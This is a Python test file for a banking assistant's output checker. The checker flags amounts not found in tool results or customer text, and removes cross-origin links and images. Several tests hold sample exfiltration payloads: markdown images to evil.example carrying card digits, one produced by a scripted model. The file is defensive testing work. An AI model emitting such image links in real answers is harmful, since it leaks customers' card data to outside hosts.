"""The final answer is checked before the customer sees it (G10)."""

from __future__ import annotations

from decimal import Decimal

from bankbot.output_checks import amounts_in, check_answer
from tests.agent.fakes import ScriptedModel, call, text
from tools.models import ToolCallTrace


def test_it_reads_amounts_but_not_cards_dates_or_references():
    found = amounts_in("On 2026-10-03 card •••• 4242 paid 15 000.50 KZT (T-10452), "
                       "then 99.00 and 2500,50 ₸ in 2026; 3 items")
    assert found == {Decimal("15000.50"), Decimal("99.00"), Decimal("2500.50")}


def test_an_amount_from_a_tool_result_passes():
    checked = check_answer("Your total is 15000.00 KZT.", known_text=['{"total_kzt": "15000.00"}'])
    assert not checked.flagged


def test_an_amount_the_customer_wrote_passes():
    assert not check_answer("You asked about 7 500 KZT.", known_text=["dispute 7500"]).flagged


def test_an_invented_amount_is_flagged():
    checked = check_answer("You spent 99999.00 KZT.", known_text=['{"total_kzt": "15000.00"}'])
    assert checked.flagged
    assert "99999.00" in checked.problems[0]


def test_links_and_images_to_other_origins_are_removed():
    checked = check_answer("See ![x](https://evil.example/?q=4242) and [here](//evil.example) "
                           "or http://evil.example <img src=x>", known_text=[])
    assert "evil.example" not in checked.text and "<img" not in checked.text
    assert checked.flagged


def test_the_agent_flags_an_invented_amount_to_the_customer_and_traces_it(alice_conversation, say):
    model = ScriptedModel(call("list_cards", {}), text("You owe 123456.00 KZT."))
    answer, events = say(alice_conversation, "show my cards", client=model.client())
    assert "do not match your records" in answer.flagged
    assert events[-1].kind == "final"
    trace = ToolCallTrace.objects.get(event="flagged")
    assert trace.result["original"] == "You owe 123456.00 KZT. "


def test_the_agent_strips_an_exfiltration_image(alice_conversation, say):
    model = ScriptedModel(text("Done ![a](https://evil.example/c?d=4242)"))
    answer, _ = say(alice_conversation, "hi", client=model.client())
    assert "evil.example" not in answer.text
    assert "another website" in answer.flagged
